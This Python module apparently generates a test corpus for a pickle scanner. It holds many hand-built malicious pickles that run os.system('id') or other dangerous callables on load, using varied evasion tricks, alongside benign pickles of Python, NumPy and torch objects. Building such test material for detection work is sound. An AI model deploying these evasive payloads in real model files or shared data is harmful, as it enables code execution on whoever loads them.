"""Pickles that run code when they are loaded, by many ways, and pickles of what programs save. Nothing here loads one.

    attacks()  {name: bytes}: the way to os.system, eval or open, or a call of a function that does what it is given
    benign()   {name: bytes}: objects of Python, NumPy and torch in each protocol, and classes of packages
"""
import argparse
import array
import collections
import datetime
import decimal
import enum
import fractions
import functools
import inspect
import io
import ipaddress
import itertools
import logging
import operator
import pathlib
import pickle
import random
import re
import string
import struct
import time
import types
import typing
import uuid
import zoneinfo

import numpy
import torch

# Each is called with a text: MODULE:NAME.
CALLS = """
    builtins:eval builtins:exec builtins:compile builtins:open builtins:__import__ builtins:str.format builtins:getattr builtins:setattr
    builtins:globals builtins:vars builtins:map builtins:filter builtins:breakpoint builtins:input builtins:exit builtins:help __builtin__:eval
    __builtin__:execfile posix:system os:popen os:execvp os:posix_spawn pty:spawn subprocess:check_output commands:getoutput webbrowser:open
    importlib:import_module runpy:run_path runpy:_run_code pip:main pip._internal:main pip._internal.cli.main:main ensurepip:_run_pip functools:reduce
    operator:attrgetter operator:methodcaller _operator:methodcaller codecs:decode codecs:open io:open _io:open _io:FileIO _pyio:open pydoc:locate
    pydoc:pipepager timeit:timeit cProfile:run bdb:Bdb.run code:InteractiveInterpreter.runcode pkgutil:resolve_name shutil:rmtree
    socket:create_connection ctypes:CDLL _ctypes:dlopen marshal:loads pickle:loads pickle:Unpickler _pickle:loads types:FunctionType types:CodeType
    types:SimpleNamespace.__init__.__globals__ numpy:load numpy:save numpy:fromfile numpy:memmap numpy.testing._private.utils:runstring
    numpy.f2py.crackfortran:getlincoef numpy.core:_ufunc_reconstruct torch:load torch:UntypedStorage.from_file torch:_C._load_for_lite_interpreter
    torch.serialization:load torch.hub:load torch.jit:load torch.ops:load_library torch.classes:load_library torch.package:PackageImporter
    torch.utils.data.datapipes.utils.decoder:basichandlers torch.utils.bottleneck.__main__:run_autograd_prof torch.utils.collect_env:run
    torch.jit.unsupported_tensor_ops:execWrapper torch.utils._config_module:ConfigModule.load_config torch._inductor.codecache:compile_file
    torch.fx.graph_module:reduce_graph_module torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression
    torch.distributed.distributed_c10d:TCPStore torch.distributed.distributed_c10d:FileStore torch.distributed.distributed_c10d:_pickler
    torch.distributed.distributed_c10d:_tensor_to_object torch.distributed.checkpoint.utils:_wrap_exception
    torch.jit._pickle:torch torch.utils.data.graph:pickle
    torch.utils.data.dataloader:os torch.storage:UntypedStorage.from_file six.moves.builtins:eval six.moves.builtins:getattr
    six.moves.builtins:open future.moves.subprocess:call eventlet.green.os:system gevent.subprocess:Popen past.builtins:execfile
    sklearn.externals.six.moves.builtins:compile joblib.numpy_pickle:load dill._dill:loads cloudpickle.cloudpickle:subimport pandas:read_pickle
    pandas:eval pandas.io.pickle:read_pickle keras.models:load_model tensorflow.keras.models:load_model yaml:unsafe_load yaml:load yaml:full_load
    hydra.utils:instantiate hydra._internal.utils:_locate six:exec_ sympy.parsing.sympy_parser:parse_expr
    transformers.dynamic_module_utils:get_class_from_dynamic_module huggingface_hub:snapshot_download jsonpickle:decode jinja2:Template
    mako.template:Template fire:Fire gdown:download wget:download lightning.pytorch.cli:instantiate_class django.utils.module_loading:import_string
    mlflow.pyfunc:load_model fastai.learner:load_learner multiprocess.process:Process distutils.file_util:write_file setuptools:sandbox.run_setup
    idlelib.run:Executive.runcode lib2to3.pgen2.grammar:Grammar.loads asyncio.unix_events:_UnixSubprocessTransport._start uuid:_get_command_stdout
    _aix_support:_read_cmd_output _osx_support:_read_output _pyrepl.pager:pipe_pager _testcapi:run_in_subinterp _sitebuiltins:Quitter
    compression.zlib:decompress sys:modules sys:modules.os.system collections:abc.sys.modules collections:_sys pathlib:os.system
    pathlib:Path.write_text pathlib:Path.unlink random:_os.system argparse:_os.system enum:sys.modules datetime:sys.modules
    torch._utils:_rebuild_tensor.__globals__ torch._utils:_import_dotted_name torch._C:_jit_set_profiling_mode transformers.pipelines:pipeline
    transformers:AutoModel.from_pretrained deepspeed.launcher.launch:main pytorch_lightning.callbacks:os.system pytest:main _pytest.config:main
    IPython.utils.process:system ipykernel.kernelapp:launch_new_instance tarfile:open zipfile:ZipFile tempfile:mkstemp gc:get_objects
    inspect:getsource logging.config:dictConfig logging:FileHandler string:Formatter.format copyreg:add_extension copyreg:pickle atexit:register
    threading:Timer signal:signal sched:scheduler weakref:finalize contextlib:ExitStack concurrent.futures:ThreadPoolExecutor multiprocessing:Process
"""

# Packages whose classes trainings save: they need their program, and are no attack.
CLASSES = """
    transformers.training_args:TrainingArguments transformers.trainer_utils:IntervalStrategy accelerate.utils.dataclasses:DistributedType
    omegaconf.dictconfig:DictConfig omegaconf.base:ContainerMetadata pytorch_lightning.utilities.parsing:AttributeDict
    lightning.fabric.utilities.data:AttributeDict torch.optim.adamw:AdamW torch.ao.quantization.observer:MinMaxObserver
    megatron.core.enums:ModelType fairseq.data.dictionary:Dictionary yacs.config:CfgNode ultralytics.nn.tasks:DetectionModel
    models.yolo:Model timm.models.vision_transformer:VisionTransformer sklearn.linear_model._base:LinearRegression
    pandas.core.frame:DataFrame pandas._libs.internals:_unpickle_block scipy.sparse._csr:csr_matrix gymnasium.spaces.box:Box
    tokenizers:Tokenizer box.box:Box __main__:Config utils.types:X config.io:Y mypkg.logging:Logger
    torch.distributed._tensor.placement_types:Shard torch.distributed.device_mesh:DeviceMesh torch.distributed.checkpoint.metadata:Metadata
    torch.distributed.distributed_c10d:ProcessGroup deepspeed.runtime.fp16.loss_scaler:LossScaler peft.utils.peft_types:PeftType
    numpy._core.multiarray:_reconstruct torchmetrics.utilities.data:dim_zero_sum six.moves.builtins:range torch.ao.quantization.utils:make_it
"""

P2, P4 = b"\x80\x02", b"\x80\x04"


# ---- opcodes ----

def text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def data(value):
    return b"B" + struct.pack("<I", len(value)) + value


def line(module, name):
    return b"c%s\n%s\n" % (module.encode(), name.encode())


def named(module, name):
    return text(module) + text(name) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


ATTACK = call(line("os", "system"), text("id"))
OLD = b"cos\nsystem\n(S'id'\ntR"
GETATTR = named("builtins", "getattr")
FROM_TYPE, LOAD = named("torch._tensor", "_rebuild_from_type_v2"), named("torch.storage", "_load_from_bytes")
GENERATOR, TENSOR = named("numpy.random._pickle", "__generator_ctor"), named("torch", "Tensor")


def deep(inner, times, wrap):
    for _ in range(times):
        inner = P4 + wrap(data(inner)) + b"."
    return inner


def attacks():
    long_name = "path.os." * 600 + "system"
    made = {
        # opcodes
        "reduce": P2 + ATTACK, "protocol 0": OLD, "protocol 1": b"\x80\x01" + ATTACK, "frame": P4 + b"\x95" + struct.pack("<Q", 99999) + ATTACK,
        "newobj": P2 + line("subprocess", "Popen") + b"(" + text("id") + b"t\x81", "newobj_ex": P4 + named("os", "system") + b"(" + text("id") + b"t}\x92",
        "inst": b"(S'id'\nios\nsystem\n", "obj": b"(cos\nsystem\nS'id'\no", "persid": b"Pid\n0" + OLD, "binpersid": P2 + ATTACK + b"Q",
        "marks": P2 + b"(((((1" + ATTACK, "popped": P2 + ATTACK + b"0N", "binstring": P4 + b"U\x02osU\x06system\x93(U\x02idtR",
        "carriage returns": P2 + b"cos\r\nsystem\r\n(" + text("id") + b"tR",
        "extension": P2 + call(line("copyreg", "add_extension"), text("os"), text("system"), b"K\x01") + b"\x82\x01(" + text("id") + b"tR",
        # names
        "memo": P4 + text("os") + b"\x94" + text("system") + b"\x9400h\x00h\x01\x93(" + text("id") + b"tR",
        "duplicate": P4 + text("os") + text("system") + b"\x932(" + text("id") + b"tR",
        "slot twice": P4 + text("collections") + b"q\x000" + text("os") + b"q\x000h\x00" + text("system") + b"\x93(" + text("id") + b"tR",
        "slot over memoized": P4 + b"N\x940" + text("os") + b"q\x000N\x940h\x00" + text("system") + b"\x93(" + text("id") + b"tR",
        "joined": P4 + call(named("operator", "concat"), text("o"), text("s")) + text("system") + b"\x93(" + text("id") + b"tR",
        "added": P4 + call(named("_operator", "add"), text("o"), text("s")) + text("system") + b"\x93(" + text("id") + b"tR",
        "escaped": P4 + b"V\\u006fs\nVsystem\n\x93(S'id'\ntR", "long": P4 + call(named("os", long_name), text("id")),
        "long line": P4 + call(line("os", long_name), text("id")), "after many": P2 + b"".join(line("pkg%d" % i, "Own") for i in range(60)) + ATTACK,
        # members
        "members of a module": P4 + call(call(GETATTR, call(named("builtins", "__import__"), text("os")), text("system")), text("id")),
        "subclasses": P4 + call(call(GETATTR, named("builtins", "object"), text("__subclasses__"))),
        "globals": P4 + call(GETATTR, call(GETATTR, named("torch.nn", "Module"), text("__init__")), text("__globals__")) + text("x") + b"Ns",
        "a dictionary of a class": P4 + call(GETATTR, named("torch.nn", "Module"), text("__dict__")) + text("x") + b"Ns",
        "a dictionary of a module": P4 + named("torch.nn.functional", "__dict__") + text("relu") + b"Ns",
        "a registry": P4 + named("my.package", "REGISTRY") + text("relu") + b"Ns",
        "defaults": P4 + call(GETATTR, named("torch.nn", "Module"), text("forward")) + b"N}" + text("__defaults__") + b"Ns\x86b",
        "a class": P4 + named("torch.nn", "Module") + b"}" + text("forward") + b"Nsb",
        "through another module": P4 + call(call(GETATTR, named("transformers.utils", "os"), text("system")), text("id")),
        "globals of a function": P4 + text("torch.storage") + text("_load_from_bytes.__globals__") + b"\x93",
        "getitem": P4 + call(call(named("operator", "getitem"), named("sys", "modules"), text("os"))),
        "a new type": P4 + call(named("builtins", "type"), text("X"), b")", b"}"),
        # functions that call
        "loads old bytes": P4 + call(LOAD, data(OLD + b".")), "loads, handed on": P4 + call(FROM_TYPE, LOAD, TENSOR, b"(" + data(OLD + b".") + b"t", b"}"),
        "loads, for a generator": P4 + call(GENERATOR, data(OLD + b"."), LOAD), "loads by default": P4 + call(named("collections", "defaultdict"), LOAD),
        "loads what a codec makes": P4 + call(LOAD, call(named("_codecs", "encode"), text("\x80\x02N."), text("cp037"))),
        "loads, deep": deep(P2 + ATTACK + b".", 7, lambda inner: call(LOAD, inner))[:-1],
        "calls its first": P4 + call(FROM_TYPE, named("torch.utils.data.datapipes.utils.decoder", "basichandlers"), TENSOR,
                                     b"(" + text("pickle") + data(OLD + b".") + b"t", b"}"),
        "calls its second": P4 + call(GENERATOR, data(b"x"), call(GETATTR, named("builtins", "object"), text("mro"))),
        "a ufunc": P4 + call(named("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")),
        # places
        "behind a class": P4 + b"(" + named("my.thing", "Own") + b")\x81" + ATTACK + b"t", "third": P2 + b"N.N." + OLD,
        "second, which breaks off": P2 + b"N." + OLD + b"\xff", "second in protocol 2": P2 + b"N." + P2 + ATTACK + b"\xff",
        "deep in bytes": deep(P2 + ATTACK + b".", 5, lambda inner: inner)[:-1],
        "among elements": P4 + b"}0" + named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}b\x07\xff\xff\xff" + bytes(range(64)) + ATTACK,
        "behind elements": P2 + b"N." + bytes(range(64)) * 40 + b"\x80\x02" + ATTACK,
    }
    for word in CALLS.split():
        module, _, name = word.partition(":")
        made["call " + word] = P4 + call(named(module, name), text("id"))
    return {name: value + b"." for name, value in made.items()}


# ---- what programs save ----

class Color(enum.Enum):
    RED = 1


class Mode(enum.Flag):
    A, B = 1, 2


class Own:
    def method(self):
        pass


Point = collections.namedtuple("Point", "x y")


def objects():
    own, random_state = Own(), numpy.random.RandomState(1)
    net = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU(), torch.nn.BatchNorm1d(2))
    optimizer = torch.optim.AdamW(net.parameters())
    return [
        argparse.Namespace(a=1), collections.OrderedDict(a=1), collections.defaultdict(list, a=[1]), collections.Counter("aab"), collections.deque([1]),
        pathlib.Path("a"), pathlib.PurePosixPath("b"), datetime.datetime(2024, 1, 1), datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc),
        datetime.datetime(2024, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC")), datetime.timedelta(1), decimal.Decimal("1.2"), fractions.Fraction(1, 2), 1 + 2j,
        range(3), slice(1, 2), {1, 2}, frozenset([1]), b"abc\x80", bytearray(b"x"), Color.RED, Mode.A, Mode.A | Mode.B, re.I | re.M, re.compile("a"),
        uuid.UUID(int=5), functools.partial(Own), functools.partial(operator.add, 1), operator.itemgetter(0), itertools.count(2), iter([1, 2]),
        enumerate([1]), logging.getLogger("x"), logging.getLogger(), time.gmtime(0), types.SimpleNamespace(a=1), type(None), ..., NotImplemented, list, int,
        typing.List[int], typing.Optional[int], list[int], typing.Any, random.Random(1), string.Template("a"), ipaddress.ip_address("1.2.3.4"),
        ValueError("x"), KeyboardInterrupt(), UserWarning("x"), StopIteration(), FileNotFoundError(2, "x"), own, own.method, Own.method, Point(1, 2), len,
        io.BytesIO(b"a"), io.StringIO("a"), inspect.signature(Own.method), array.array("d", [1]),
        numpy.float64(1), numpy.int64(3), numpy.bool_(1), numpy.arange(3), numpy.asfortranarray(numpy.ones((2, 2))), numpy.dtype("f4"),
        numpy.dtype([("a", "f4")]), random_state.get_state(), random_state, numpy.random.default_rng(1), numpy.random.Generator(numpy.random.Philox(1)),
        numpy.datetime64("2020-01-01"), numpy.rec.array([(1, 2.)], dtype=[("a", "i4"), ("b", "f4")]), numpy.array([1, "a", None], dtype=object),
        numpy.ma.array([1, 2], mask=[0, 1]), numpy.add, numpy.mean, numpy.float32, numpy.random.SeedSequence(3),
        torch.ones(3), torch.nn.Parameter(torch.ones(2)), net, optimizer.state_dict(), optimizer, torch.Size([1]), torch.float16, torch.device("cpu"),
        torch.get_rng_state(), torch.relu, torch.exp, torch.nn.functional.gelu, torch.nn.init.xavier_uniform_, torch.nn.LSTM(2, 2),
        torch.nn.TransformerEncoderLayer(4, 2), torch.eye(2).to_sparse(), torch.nn.utils.weight_norm(torch.nn.Linear(2, 2)),
        torch.utils.data.TensorDataset(torch.ones(2)), torch.utils.data.DataLoader([1, 2]), torch.ones(2, dtype=torch.bfloat16),
    ]


def benign():
    made = {}
    for at, value in enumerate(objects()):
        for protocol in (0, 2, 4, 5):
            try:
                made["%d %.40r in protocol %d" % (at, value, protocol)] = pickle.dumps({"x": value}, protocol)
            except TypeError:  # NumPy's and io's need a later protocol
                continue
    for word in CLASSES.split():
        module, _, name = word.partition(":")
        made[word] = P4 + named(module, name) + b")\x81}" + text("a") + b"K\x01sb."
    return made
